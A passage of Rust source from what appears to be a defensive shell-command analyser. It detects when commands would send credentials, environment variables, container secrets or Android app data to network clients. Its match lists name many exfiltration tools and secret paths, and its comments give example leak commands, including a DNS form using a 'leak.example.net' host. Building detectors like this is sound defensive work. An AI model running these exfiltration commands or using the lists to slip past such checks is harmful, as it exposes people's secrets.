            | "cmp"
            | "namei"
            | "lsof"
            | "fuser"
            | "getfacl"
            | "setfacl"
            | "wait"
            | "sleep"
            | "cd"
            | "pushd"
            | "popd"
            | "exit"
            | "kill"
            | "export"
            | "unset"
            | "set"
            | "local"
            | "declare"
            | "readonly"
            | "typeset"
            | "alias"
            | "source"
            | "."
            | "eval"
            | "exec"
            | "ssh"
            | "scp"
            | "sftp"
            | "docker"
            | "podman"
            | "kubectl"
            | "gpg-agent"
            | "sops"
            | "age"
            | "vault"
            | "op"
    )
}

/// Options of non-readers whose value is a key or identity the program uses, not data it
/// prints (`openssl … -inkey KEY` still prints; `ssh -i KEY` does not).
fn is_key_option(name: &str, opt: &str) -> bool {
    is_identity_option(name, opt)
        || matches!(
            opt,
            "-i" | "--identity"
                | "--identity-file"
                | "--key-file"
                | "--keyfile"
                | "--private-key"
                | "--ssh-key"
                | "--credentials"
                | "--credentials-file"
                | "--kubeconfig"
                | "--env-file"
                | "--netrc-file"
                | "--config"
        ) && !crate::names::listed!(FILE_READERS, name)
}

/// A cheap, exact pre-check for [`read_source`]: a relative path that stays inside the
/// workspace (no `..`, the line still in the workspace) can only be a secret by its name or
/// as a file the line wrote secrets to, since inside the workspace `read_source` consults the
/// shell's credential list, which is name-based there. Everything else is looked up. Keeps
/// the generic "any program prints its file operands" rule off the hot path (`cargo test -p
/// x`, `git diff -- src/lib.rs`).
fn may_be_secret(raw: &str, inside_workspace: bool, files: &LineState) -> bool {
    if !files.secret.is_empty()
        || raw.starts_with(['/', '~', '$'])
        || holds(raw, "..")
        || !inside_workspace
    {
        return true;
    }
    targets::is_secret_name(crate::resolve::basename(raw))
}

/// The key a configuration tool is asked to print (`git config --get github.token`,
/// `npm config get //registry/:_authToken`, `aws configure get aws_secret_access_key`): a
/// credential-named key prints the credential.
fn config_getter_key<'w>(name: &str, words: &'w [Word]) -> Option<&'w str> {
    // Runs for every command: only these tools have a getter (the operands are not collected
    // for the others).
    if !matches!(
        name,
        "git"
            | "npm"
            | "pnpm"
            | "yarn"
            | "bun"
            | "pip"
            | "pip3"
            | "gh"
            | "aws"
            | "heroku"
            | "poetry"
    ) {
        return None;
    }
    let operands: Vec<&str> = words
        .iter()
        .filter(|w| !w.text.starts_with('-'))
        .map(|w| w.text.as_str())
        .collect();
    match (name, operands.as_slice()) {
        ("git", ["config", "get", key, ..] | ["config", key])
        | ("npm" | "pnpm" | "yarn" | "bun" | "pip" | "pip3" | "gh", ["config", "get", key, ..])
        | ("npm", ["get", key, ..])
        | ("aws", ["configure", "get", key, ..])
        | ("heroku", ["config:get", key, ..])
        | ("poetry", ["config", key]) => Some(key),
        _ => None,
    }
}

/// `set` with no arguments, `export`/`export -p`, `declare -x`/`-p`, `typeset -x`, `compgen -e`
/// or `-v`: print every (exported) variable with its value.
fn is_environment_listing(name: &str, args: &[String]) -> bool {
    let (flags, names): (Vec<&String>, Vec<&String>) = args
        .iter()
        .partition(|a| a.starts_with('-') || a.starts_with('+'));
    if !names.is_empty() {
        return false;
    }
    match name {
        "set" | "export" => flags.iter().all(|f| f.as_str() == "-p"),
        "declare" | "typeset" => flags
            .iter()
            .all(|f| f.starts_with('-') && f.chars().skip(1).all(|c| matches!(c, 'p' | 'x'))),
        "compgen" => flags.iter().any(|f| matches!(f.as_str(), "-e" | "-v")),
        _ => false,
    }
}

/// `docker run -v ~/.aws:/a …`: a container that mounts a directory holding credentials (or one
/// above such a directory, like the home) prints whatever it reads from it.
fn container_mount(words: &[Word], cwd: &Cwd, ctx: &Context) -> Option<FlowSource> {
    let mut mounts: Vec<(&str, &str)> = Vec::new();
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        let spec = match t {
            // `-B`/`--bind`: Apptainer's and Singularity's binds (`SRC[:DST[:OPTS]]`).
            "-v" | "--volume" | "--mount" | "-B" | "--bind" => {
                i += 1;
                words.get(i - 1).map(|n| n.text.as_str())
            }
            _ => t
                .strip_prefix("--volume=")
                .or_else(|| t.strip_prefix("--mount="))
                .or_else(|| t.strip_prefix("--bind="))
                .or_else(|| t.strip_prefix("-v").filter(|r| !r.is_empty())),
        };
        let Some(spec) = spec else { continue };
        let host = if spec.contains("source=") || spec.contains("src=") {
            spec.split(',').find_map(|kv| {
                kv.strip_prefix("source=")
                    .or_else(|| kv.strip_prefix("src="))
            })
        } else {
            spec.split(':').next()
        };
        let Some(host) = host.filter(|h| h.starts_with(['/', '~', '.', '$'])) else {
            continue;
        };
        let target = if spec.contains("target=") || spec.contains("dst=") {
            spec.split(',').find_map(|kv| {
                kv.strip_prefix("target=")
                    .or_else(|| kv.strip_prefix("dst="))
                    .or_else(|| kv.strip_prefix("destination="))
            })
        } else {
            spec.split(':').nth(1)
        };
        if let Some(t) = target.filter(|t| t.starts_with('/') && t.len() > 1) {
            mounts.push((host, t.trim_end_matches('/')));
        }
        let base = match cwd {
            Cwd::Known(p) => p.as_path(),
            Cwd::Unknown => Path::new("/"),
        };
        let path = hookgate_paths::normalize(host, base, ctx.home.as_deref()).path;
        if targets::is_secret_path(host, cwd, ctx) || catalog_secret(&path, ctx, true) {
            return Some(FlowSource::ContainerMount {
                path: host.to_owned(),
            });
        }
    }
    // A file of a mounted directory named by its path inside the container (`-v "$PWD":/w …
    // curl -T /w/.env`): mapped back to the host path it is.
    for w in words.iter().filter(|w| w.exact) {
        for (host, target) in &mounts {
            let found = file_refs(&w.text).find_map(|r| {
                r.strip_prefix(target)
                    .filter(|rest| rest.starts_with('/'))
                    .map(|rest| format!("{host}{rest}"))
            });
            if let Some(mapped) = found
                && targets::is_secret_path(&mapped, cwd, ctx)
            {
                return Some(FlowSource::ContainerMount { path: mapped });
            }
        }
    }
    None
}

/// A container or pod asked to print its secrets (`docker exec app env`, `kubectl exec pod --
/// printenv`, `… cat /run/secrets/db_password` or the service-account token): its output is
/// the workload's credentials, judged where it goes like `env`'s here. Printed to the
/// terminal it stays ordinary, as `env` does.
fn container_secret(name: &str, words: &[Word], ctx: &Context) -> Option<FlowSource> {
    if let Some(source) = inspected_environment(name, words) {
        return Some(source);
    }
    if !words
        .iter()
        .any(|w| matches!(w.text.as_str(), "exec" | "run" | "debug" | "rsh"))
    {
        return None;
    }
    let (label, target, inner) = crate::argdanger::container_command(name, words)?;
    let (program, operands) = inner.split_first()?;
    let program = crate::resolve::command_name(&program.text);
    let by = || format!("{label} {target} {}", Word::joined(&inner).text);
    let texts: Vec<&str> = operands.iter().map(|w| w.text.as_str()).collect();
    if let Some(source) = container_read(&program, &texts, &by) {
        return Some(source);
    }
    // `docker exec prod-db pg_dumpall`, `kubectl exec db-0 -- mysqldump --all-databases`: the
    // database in the container dumped to the stream, as the dump tool run here would.
    if database_dump(&program, operands).is_some_and(|to_stdout| to_stdout) {
        return Some(FlowSource::DatabaseDump { command: by() });
    }
    // `kubectl exec api -- sh -c 'cat /var/run/secrets/…/token'`: the container's shell runs
    // the code; its commands are read by the same parser (a strictly shorter string, so the
    // nesting ends) and each is checked as the command given directly would be.
    if crate::resolve::is_shell(&program)
        && let Some(k) = operands.iter().position(|w| {
            w.exact && w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains('c')
        })
        && let Some(code) = operands.get(k + 1).filter(|w| w.exact)
    {
        let nested = crate::analyze(&code.text, ctx);
        return nested.commands.iter().find_map(|c| {
            let (p, rest) = c.argv.split_first()?;
            let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
            container_read(&crate::resolve::command_name(p), &rest, &by)
        });
    }
    None
}

/// What a command run inside a container prints of the container's secrets: its
/// environment (`env`, `printenv`), or a file under the secret mounts (`/run/secrets/…`,
/// Kubernetes' service-account token under `/var/run/secrets/…`).
fn container_read(program: &str, args: &[&str], by: &dyn Fn() -> String) -> Option<FlowSource> {
    let operands: Vec<&str> = args
        .iter()
        .copied()
        .filter(|t| !t.starts_with('-'))
        .collect();
    match program {
        "env" | "printenv" if operands.is_empty() => Some(FlowSource::Environment { by: by() }),
        "cat" | "head" | "tail" | "base64" | "xxd" | "strings"
            if operands
                .iter()
                .any(|p| p.starts_with("/run/secrets/") || p.starts_with("/var/run/secrets/")) =>
        {
            Some(FlowSource::CredentialCommand { command: by() })
        }
        _ => None,
    }
}

/// Where an Android device keeps what its apps and users would not share: each app's private
/// data (`/data/data/PKG`, `/data/user/N/PKG`, `/data/user_de/N/PKG`: session tokens in
/// `shared_prefs`, databases, cookies), saved Wi-Fi passwords (`/data/misc/wifi`), accounts
/// and lock-screen credentials (`/data/system*`), and the keystore (`/data/misc/keystore`).
fn is_device_private(path: &str) -> bool {
    [
        "/data/data/",
        "/data/user/",
        "/data/user_de/",
        "/data/misc/wifi",
        "/data/misc/keystore",
        "/data/misc/apexdata/com.android.wifi",
        "/data/system/",
        "/data/system_ce/",
        "/data/system_de/",
    ]
    .iter()
    .any(|root| path.starts_with(root))
}

/// The global options of `adb` that take a value (`-s SERIAL`, `-t ID`, `-H HOST`, `-P PORT`,
/// `-L SOCKET`): skipped to find its command.
fn adb_command(words: &[Word]) -> Option<(&str, &[Word])> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        let t = w.text.as_str();
        if matches!(t, "-s" | "-t" | "-H" | "-P" | "-L") {
            i += 2;
        } else if t.starts_with('-') {
            i += 1;
        } else {
            return Some((t, words.get(i + 1..).unwrap_or(&[])));
        }
    }
    None
}

/// `adb shell 'cat /data/data/APP/shared_prefs/auth.xml'`, `adb exec-out run-as APP cat
/// databases/app.db`: a connected device asked to print an app's private data or the
/// device's stored credentials ([`is_device_private`]; under `run-as APP` every file the
/// command names is the app's own). The output is the device's secrets, judged where it goes
/// like a credential file's here; listing or logging stays ordinary.
pub(crate) fn device_app_data(words: &[Word], ctx: &Context) -> Option<FlowSource> {
    let (verb, rest) = adb_command(words)?;
    if !matches!(verb, "shell" | "exec-out") {
        return None;
    }
    // `adb shell -T -x CMD`: shell's own flags come first.
    let rest: Vec<&Word> = rest
        .iter()
        .skip_while(|w| w.exact && w.text.starts_with('-'))
        .collect();
    let by = || {
        let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
        format!("adb {}", shown.join(" "))
    };
    let judge = |argv: &[&str]| -> bool {
        let (run_as, argv) = match argv {
            ["run-as", _pkg, rest @ ..] => (true, rest),
            _ => (false, argv),
        };
        let Some((program, operands)) = argv.split_first() else {
            return false;
        };
        let program = crate::resolve::command_name(program);
        let reads = matches!(
            program.as_str(),
            "cat"
                | "head"
                | "tail"
                | "base64"
                | "xxd"
                | "od"
                | "strings"
                | "sqlite3"
                | "tar"
                | "dd"
                | "cp"
                | "toybox"
                | "busybox"
                | "grep"
        );
        reads
            && operands.iter().any(|o| {
                let o = o.strip_prefix("if=").unwrap_or(o);
                !o.starts_with('-')
                    && (is_device_private(o) || (run_as && !o.starts_with('/') && !o.is_empty()))
            })
    };
    let found = if let [code] = rest.as_slice()
        && code.exact
        && code.text.contains(' ')
    {
        // One quoted argument is code for the device's shell: read by the same parser.
        let nested = crate::analyze(&code.text, ctx);
        nested.commands.iter().any(|c| {
            let argv: Vec<&str> = c.argv.iter().map(String::as_str).collect();
            judge(&argv)
        })
    } else {
        let argv: Vec<&str> = rest.iter().map(|w| w.text.as_str()).collect();
        judge(&argv)
    };
    found.then(|| FlowSource::CredentialCommand { command: by() })
}

/// `adb pull /data/data/APP/databases/app.db ./x`, `adb backup -all -f b.ab`: the device's
/// private data copied into a local file ([`device_app_data`]'s places), whose upload is the
/// same flow as printing it into the network client.
fn device_pull_output(words: &[Word]) -> Option<(String, FlowSource)> {
    let (verb, rest) = adb_command(words)?;
    let shown = || {
        let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
        FlowSource::CredentialCommand {
            command: format!("adb {}", shown.join(" ")),
        }
    };
    match verb {
        "pull" => {
            let operands: Vec<&str> = rest
                .iter()
                .map(|w| w.text.as_str())
                .filter(|t| !t.starts_with('-'))
                .collect();
            let (dest, sources) = match operands.as_slice() {
                [one] => ((*one).rsplit('/').next().unwrap_or(one), &operands[..]),
                [sources @ .., dest] => (*dest, sources),
                [] => return None,
            };
            sources
                .iter()
                .any(|s| is_device_private(s))
                .then(|| (dest.to_owned(), shown()))
        }
        "backup" => {
            let mut it = rest.iter();
            let mut file = "backup.ab".to_owned();
            while let Some(w) = it.next() {
                if w.text == "-f" {
                    file.clone_from(&it.next()?.text);
                }
            }
            Some((file, shown()))
        }
        _ => None,
    }
}

/// `docker inspect C` (`container inspect`, podman, nerdctl): the container's configuration,
/// its `Config.Env` included — the secrets it was started with — unless a `--format`
/// template picks fields other than the environment (`-f '{{.State.Status}}'`).
fn inspected_environment(name: &str, words: &[Word]) -> Option<FlowSource> {
    if !matches!(name, "docker" | "podman" | "nerdctl") {
        return None;
    }
    let positionals: Vec<&str> = words
        .iter()
        .map(|w| w.text.as_str())
        .filter(|t| !t.starts_with('-'))
        .take(2)
        .collect();
    if !matches!(
        positionals.as_slice(),
        ["inspect", ..] | ["container", "inspect"]
    ) {
        return None;
    }
    let mut format = None;
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        if matches!(t, "-f" | "--format") {
            format = it.next().map(|v| v.text.as_str());
        } else if let Some(v) = t.strip_prefix("--format=") {
            format = Some(v);
        }
    }
    if format.is_some_and(|f| {
        !f.contains("Env") && !f.contains("json .Config") && f.trim() != "{{json .}}"
    }) {
        return None;
    }
    let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
    Some(FlowSource::Environment {
        by: format!("{name} {}", shown.join(" ")).trim().to_owned(),
    })
}

/// The names [`is_network_client`] may accept (checked before any argv is parsed, since this
/// runs for every plain command).
pub(crate) fn maybe_network_client(name: &str) -> bool {
    is_network_client(name, &[])
        || matches!(
            name,
            "aws" | "gh" | "glab" | "az" | "gcloud" | "openssl" | "git"
        )
}

/// Network clients: what sends data to another machine.
fn is_network_client(name: &str, positionals: &[&str]) -> bool {
    match name {
        "curl" | "wget" | "http" | "https" | "xh" | "xhs" | "httpie" | "nc" | "ncat" | "netcat"
        | "nc.traditional" | "nc.openbsd" | "socat" | "ssh" | "sftp" | "rclone" | "gsutil"
        | "azcopy" | "s3cmd" | "telnet" | "ftp" | "tftp" | "lftp" | "mail" | "mailx" | "mutt"
        | "sendmail" | "nslookup" | "dig" | "host" | "ping" | "websocat" | "wscat" | "grpcurl"
        | "aria2c" | "cryptcat" | "smbclient" | "lwp-request" | "POST" | "PUT"
        // File-transfer tools: each sends the files (or text, or stdin) it is given to
        // another machine, through a relay or a share link (`wormhole send F`, `croc send
        // DIR`, `ffsend upload F`, `onionshare-cli F`), or to a paste or storage service.
        | "wormhole" | "wormhole-william" | "croc" | "ffsend" | "onionshare" | "onionshare-cli"
        | "sendme" | "portal" | "pastebinit" | "wgetpaste" | "fpaste" | "dbxcli" | "gdrive"
        | "b2" | "s5cmd" | "ncftpput" | "megaput" | "mega-put" | "webtorrent" | "bluetooth-sendto"
        | "obexftp" | "kdeconnect-cli" | "gist" | "gist-paste" | "haste" | "curlie" | "pwncat"
        | "pwncat-cs" | "dropbox_uploader" | "dropbox_uploader.sh"
        // Packet crafters send a file as the packets' payload (`hping3 -E F`, `nping
        // --data-string`).
        | "hping3" | "nping"
        // Object-store and publishing clients of other clouds (Alibaba OSS, Tencent COS,
        // Storj), static-site publishers (`surge DIR`), and more chat/push uploaders.
        | "ossutil" | "ossutil64" | "coscli" | "coscmd" | "uplink" | "surge" | "telegram-upload"
        | "mailsend-go"
        // Mail senders: the message body, its attachments (`-a F`, `--attach @F`) and the
        // message read on stdin go to the recipients.
        | "swaks" | "msmtp" | "ssmtp" | "esmtp" | "neomutt" | "s-nail" | "bsd-mailx"
        | "heirloom-mailx" | "mail.mailutils" | "mpack" | "sendemail"
        // Chat, push-notification and webhook senders: the message and the files they attach
        // go to a chat service or a webhook (`telegram-send --file F`, `apprise --attach F`).
        | "slack-cli" | "telegram-send" | "ntfy" | "apprise" | "signal-cli" | "matrix-commander"
        | "sendxmpp" | "gotify" | "zulip-send" | "discord.sh"
        // Message-queue producers publish their message, file or stdin to a broker.
        | "kcat" | "kafkacat" | "mosquitto_pub"
        // Copies to a device over MTP.
        | "mtp-sendfile" | "mtp-sendtr" | "mtp-connect" => true,
        // The MinIO client's copy verbs (`mc` is also Midnight Commander: `mc DIR` opens it).
        "mc" => {
            positionals.is_empty()
                || matches!(
                    positionals.first().copied(),
                    Some("cp" | "mv" | "mirror" | "put" | "pipe")
                )
        }
        "ipfs" => positionals.is_empty() || positionals.first() == Some(&"add"),
        "keybase" => positionals.is_empty() || matches!(positionals.first().copied(), Some("fs" | "chat")),
        "nats" => {
            positionals.is_empty()
                || matches!(
                    positionals.first().copied(),
                    Some("pub" | "publish" | "req" | "request")
                )
        }
        "hub" => positionals.is_empty() || positionals.first() == Some(&"gist"),
        // Dataset, model and device-share uploaders: `kaggle datasets create -p DIR`,
        // `kaggle kernels push`, `huggingface-cli upload REPO PATH`, `tailscale file cp F
        // host:` send the files they name to another machine.
        "kaggle" => {
            positionals.is_empty()
                || matches!(
                    positionals.get(..2),
                    Some(
                        ["datasets", "create" | "version"]
                            | ["kernels", "push"]
                            | ["competitions", "submit"]
                            | ["models", "create" | "update"]
                    )
                )
        }
        "huggingface-cli" | "hf" => {
            positionals.is_empty() || matches!(positionals.first().copied(), Some("upload"))
        }
        "tailscale" => positionals.is_empty() || positionals.get(..2) == Some(&["file", "cp"]),
        // Experiment trackers' and data platforms' upload verbs: `wandb artifact put PATH`,
        // `mlflow artifacts log-artifact(s) --local-file/--local-dir PATH`, `databricks fs cp F
        // dbfs:/…`, `modal volume put VOL F`, `snow stage copy F @stage`, `comet upload F`
        // store the files they name on the service's servers.
        // `wandb sync DIR` uploads an offline run directory (every file in it) to the server.
        "wandb" => {
            positionals.is_empty()
                || positionals.get(..2) == Some(&["artifact", "put"])
                || positionals.first() == Some(&"sync")
        }
        "mlflow" => {
            positionals.is_empty()
                || matches!(
                    positionals.get(..2),
                    Some(["artifacts", "log-artifact" | "log-artifacts"])
                )
        }
        "databricks" => {
            positionals.is_empty()
                || matches!(
                    positionals.get(..2),
                    Some(["fs", "cp" | "mv"] | ["workspace", "import" | "import-dir"])
                )
        }
        "modal" => positionals.is_empty() || positionals.get(..2) == Some(&["volume", "put"]),
        "snow" => positionals.is_empty() || positionals.get(..2) == Some(&["stage", "copy"]),
        "comet" => positionals.is_empty() || positionals.first() == Some(&"upload"),
        // Copies off the machine to a device: `adb push F /sdcard/` (any serial or transport
        // option before the verb).
        "adb" => positionals.is_empty() || positionals.iter().take(3).any(|p| *p == "push"),
        "magic-wormhole" => positionals.is_empty() || positionals.first() == Some(&"send"),
        // pushbullet-cli's `pb push [--file F]`.
        "pb" => positionals.is_empty() || positionals.first() == Some(&"push"),
        "wrangler" => positionals.is_empty() || positionals.get(..2) == Some(&["r2", "object"]),
        "openstack" => {
            positionals.is_empty() || positionals.get(..2) == Some(&["object", "create"])
        }
        "git" => positionals.first() == Some(&"send-email"),
        "oci" => {
            positionals.is_empty()
                || (positionals.first() == Some(&"os") && positionals.get(1) == Some(&"object"))
        }
        // A copy between local paths (`scp dist/app.tgz /tmp/`, `rsync -a dist/ /srv/www/`)
        // sends nothing: only an operand naming another machine (`host:path`, `rsync://`)
        // makes it a network copy. With no operands known yet (the name-only pre-check), it
        // may be one.
        "scp" | "rsync" => positionals.is_empty() || positionals.iter().any(|p| copy_remote(p)),
        // Only its connection commands reach another machine: `genpkey`, `req`, `x509`,
        // `enc`, `dgst` work on local files (`openssl req -key k.pem -out x.csr` sends
        // nothing).
        "openssl" => matches!(
            positionals.first().copied(),
            Some("s_client" | "s_server" | "s_time" | "ocsp")
        ),
        "aws" => positionals.first() == Some(&"s3") || positionals.get(1) == Some(&"put-object"),
        // `gcloud storage cp F gs://…`, `gcloud compute scp F vm:`: copies to the cloud;
        // `gcloud compute ssh VM` is ssh to it (what it reads on stdin goes there).
        "gcloud" => matches!(
            positionals.get(..2),
            Some(["storage", "cp" | "mv" | "rsync"] | ["compute", "scp" | "ssh"])
        ),
        "az" => {
            positionals.first() == Some(&"storage")
                && positionals
                    .iter()
                    .any(|p| p.starts_with("upload") || matches!(*p, "copy" | "sync"))
        }
        "gh" | "glab" => {
            matches!(
                positionals.first().copied(),
                Some("gist" | "api" | "release" | "issue" | "pr" | "secret" | "snippet")
            ) && positionals.get(..2) != Some(&["secret", "set"])
        }
        _ => false,
    }
}

/// Option values that are a client's own credentials, identity or local output, not data it
/// sends: using a key to log in (`ssh -i key`, `curl -u user:$TOKEN`, an `Authorization`
/// header) is what credentials are for.
fn is_identity_option(name: &str, opt: &str) -> bool {
    match name {
        "ssh" | "scp" | "sftp" | "rsync" => matches!(
            opt,
            "-i" | "-F" | "-o" | "-J" | "-S" | "-c" | "-l" | "-p" | "-P" | "-e" | "--rsh"
        ),
        "curl" => matches!(
            opt,
            "-H" | "--header"
                | "-u"
                | "--user"
                | "-U"
                | "--proxy-user"
                | "-E"
                | "--cert"
                | "--key"
                | "--cacert"
                | "--oauth2-bearer"
                | "-b"
                | "--cookie"
                | "-c"
                | "--cookie-jar"
                | "-o"
                | "--output"
                | "-K"
                | "--config"
                | "--netrc-file"
                | "--aws-sigv4"
                // Where the response, its headers or a trace are written: local output.
                | "--output-dir"
                | "-D"
                | "--dump-header"
                | "--trace"
                | "--trace-ascii"
                | "--stderr"
                | "--etag-save"
        ),
        "wget" => matches!(
            opt,
            "--header"
                | "--user"
                | "--password"
                | "--http-user"
                | "--http-password"
                | "-O"
                | "-o"
                // Where downloads, the log or cookies are written: local output, never sent
                // (`-P /tmp` names the download directory, not a tree to upload).
                | "--output-document"
                | "--output-file"
                | "-a"
                | "--append-output"
                | "-P"
                | "--directory-prefix"
                | "--save-cookies"
                | "--certificate"
                | "--private-key"
                | "--load-cookies"
                | "--ca-certificate"
        ),
        "http" | "https" | "xh" | "xhs" | "httpie" => {
            matches!(
                opt,
                "-a" | "--auth" | "-o" | "--output" | "--cert" | "--cert-key" | "--unix-socket"
            )
        }
        _ => false,
    }
}

/// The `name=@file`-style file references an argument may hold: itself, after `@`, after
/// `=@`/`=<` (forms), after `--opt=`; a `;type=…` suffix is dropped.
fn file_refs(arg: &str) -> impl Iterator<Item = &str> {
    let at = arg.strip_prefix('@');
    let form = arg
        .split_once("=@")
        .or_else(|| arg.split_once("=<"))
        .or_else(|| arg.split_once(":=@"))
        .map(|(_, p)| p);
    let named = arg
        .split_once('@')
        .filter(|(k, _)| !k.is_empty() && !k.contains(['/', ':']))
        .map(|(_, p)| p);
    let long = arg
        .strip_prefix("--")
        .and_then(|a| a.split_once('='))
        .map(|(_, p)| p.trim_start_matches('@'));
    // socat's file addresses: `FILE:path,opts`, `OPEN:…`, `GOPEN:…`.
    let address = arg
        .split_once(':')
        .filter(|(k, _)| {
            matches!(
                k.to_ascii_uppercase().as_str(),
                "FILE" | "OPEN" | "GOPEN" | "CREATE" | "CREAT"
            )
        })
        .map(|(_, p)| p.split(',').next().unwrap_or(p));
    // The extracted references first, so the flow names the file (`.env`, not `f=@.env`).
    // A URL is where the request goes, not a file it reads.
    [at, form, named, long, address, Some(arg)]
        .into_iter()
        .flatten()
        .map(|p| p.split(";type=").next().unwrap_or(p))
        .filter(|p| !p.contains("://"))
}

/// Options of the HTTP clients whose value is the next word (so the word after them is not
/// the request's URL).
fn takes_value(name: &str, opt: &str) -> bool {
    match name {
        "curl" => matches!(
            opt,
            "-d" | "--data"
                | "--data-raw"
                | "--data-binary"
                | "--data-ascii"
                | "--data-urlencode"
                | "--json"
                | "-F"
                | "--form"
                | "--form-string"
                | "-T"
                | "--upload-file"
                | "-X"
                | "--request"
                | "-A"
                | "--user-agent"
                | "-e"
                | "--referer"
                | "-x"
                | "--proxy"
                | "-w"
                | "--write-out"
                | "-m"
                | "--max-time"
                | "--connect-timeout"
                | "-r"
                | "--range"
                | "-C"
                | "--continue-at"
                | "--retry"
                | "--retry-delay"
                | "--retry-max-time"
                | "--resolve"
                | "--connect-to"
                | "--limit-rate"
                | "--max-redirs"
                | "--url-query"
                | "-D"
                | "--dump-header"
                | "--trace"
                | "--trace-ascii"
                | "--interface"
                | "--unix-socket"
                | "--output-dir"
                | "--variable"
                | "-Y"
                | "-y"
                | "-z"
        ),
        "wget" => matches!(
            opt,
            "--post-data" | "--body-data" | "--post-file" | "--body-file" | "--method" | "-P"
        ),
        // Filter patterns (see `local_only_option`): the next word is the pattern.
        "rsync" | "aws" | "rclone" | "huggingface-cli" | "hf" => {
            matches!(opt, "--exclude" | "--include")
        }
        _ => false,
    }
}

/// A secret in an authentication slot (a header, cookie, user or bearer option) that is not
/// one the slot is for: a token or password is what such a slot carries (DISAGREEMENTS F1),
/// but the environment, a credential file, a scanner report or a signing secret is not.
/// Whether a credential in an authentication slot (`-H "Authorization: Bearer $TOKEN"`) may
/// be going to the service that issued it. Not when the request goes to a literal public IP
/// address (an API is called by name; a bare address is where a collector listens), nor when
/// the variable names a hosted service that has no self-hosted variant and the request goes
/// elsewhere (`$OPENAI_API_KEY` to a host not under `openai.com`). Other names (an internal
/// service's `API_TOKEN`, `GITLAB_TOKEN` for a self-managed instance) keep the excuse.
fn identity_destination_ok(source: &FlowSource, hosts: &[&str]) -> bool {
    let FlowSource::CredentialVariable { name } = source else {
        return true;
    };
    if hosts.iter().any(|h| public_ip_literal(h)) {
        return false;
    }
    let upper = name.to_ascii_uppercase();
    match HOSTED_CREDENTIALS
        .iter()
        .find(|(prefix, _)| upper.starts_with(prefix))
    {
        Some((_, domains)) => hosts.iter().all(|h| {
            domains.iter().any(|d| {
                h.eq_ignore_ascii_case(d)
                    || h.len() > d.len()
                        && h.get(h.len() - d.len()..)
                            .is_some_and(|t| t.eq_ignore_ascii_case(d))
                        && h.as_bytes().get(h.len() - d.len() - 1) == Some(&b'.')
            })
        }),
        None => true,
    }
}

/// Credential variables of hosted services with no self-hosted variant (by name prefix), and
/// the domains their APIs live under.
const HOSTED_CREDENTIALS: &[(&str, &[&str])] = &[
    ("OPENAI_", &["openai.com"]),
    ("ANTHROPIC_", &["anthropic.com"]),
    ("NPM_TOKEN", &["npmjs.org", "npmjs.com"]),
    ("HF_TOKEN", &["huggingface.co"]),
    ("HUGGING_FACE", &["huggingface.co"]),
    ("SLACK_", &["slack.com"]),
    ("STRIPE_", &["stripe.com"]),
    ("SENDGRID_", &["sendgrid.com"]),
    ("TWILIO_", &["twilio.com"]),
    ("CLOUDFLARE_", &["cloudflare.com"]),
    ("VERCEL_", &["vercel.com"]),
    ("NETLIFY_", &["netlify.com"]),
    ("HEROKU_", &["heroku.com"]),
    ("DIGITALOCEAN_", &["digitalocean.com"]),
    ("CODECOV_", &["codecov.io"]),
    ("PYPI_", &["pypi.org"]),
    ("LINEAR_", &["linear.app"]),
    (
        "DATADOG_",
        &["datadoghq.com", "datadoghq.eu", "ddog-gov.com"],
    ),
    (
        "DD_API_KEY",
        &["datadoghq.com", "datadoghq.eu", "ddog-gov.com"],
    ),
];

/// The host a URL operand names (`https://user@host:443/x` → `host`), for `://` URLs.
pub(crate) fn url_host(text: &str) -> Option<&str> {
    let rest = text.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None => host.split(':').next()?,
    };
    (!host.is_empty()).then_some(host)
}

/// A literal IP address that is not loopback, private, link-local or unspecified.
fn public_ip_literal(host: &str) -> bool {
    match host.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v4)) => {
            !(v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified())
        }
        Ok(std::net::IpAddr::V6(v6)) => {
            !(v6.is_loopback()
                || v6.is_unspecified()
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                || (v6.segments()[0] & 0xffc0) == 0xfe80)
        }
        Err(_) => false,
    }
}

fn leaks_from_identity_slot(source: &FlowSource) -> bool {
    match source {
        FlowSource::CredentialVariable { name } => is_signing_secret(name),
        FlowSource::CredentialCommand { .. } => false,
        _ => true,
    }
}

/// The secrets a word carries, except a credential variable that starts a request's URL:
/// `curl -X POST "$SLACK_WEBHOOK_URL" …` names where the request goes, it sends nothing.
fn carried_secrets(w: &Word, destination: bool) -> impl Iterator<Item = &FlowSource> {
    let leading = w
        .text
        .strip_prefix("${")
        .or_else(|| w.text.strip_prefix('$'))
        .unwrap_or("");
    w.substs
        .iter()
        .enumerate()
        .filter_map(move |(i, p)| match p {
            // A credential variable that is the destination (`curl "$WEBHOOK_URL"`,
            // `"${API_URL}/v1/x"`) is where the request goes; one followed by more of a host
            // name (`"$AWS_SECRET_ACCESS_KEY.leak.example.net"`) is a label of the name looked
            // up, which the resolver chain carries to whoever serves that domain.
            Producer::Secret(FlowSource::CredentialVariable { name })
                if destination
                    && i == 0
                    && leading.strip_prefix(name.as_str()).is_some_and(|rest| {
                        let rest = rest.strip_prefix('}').unwrap_or(rest);
                        rest.is_empty() || rest.starts_with(['/', '?', ':', '#'])
                    }) =>
            {
                None
            }
            Producer::Secret(s) => Some(s),
            _ => None,
        })
}

/// A secret reaching a network client through its arguments: a substitution or credential
/// variable inside the request (body, form field, URL, query string), or a credential file it
/// uploads (including one written earlier in the line from a secret). Authentication slots
/// (`-i`, `-u`, headers, cookies) pass tokens and passwords but not other secrets; a credential
/// variable that is the URL itself is the destination.
pub(crate) fn argument_flow(
    name: &str,
    words: &[Word],
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<Flow> {
    if !maybe_network_client(name) {
        return None;
    }
    let args = Args::parse_by(name, words, |w| w.text.as_str());
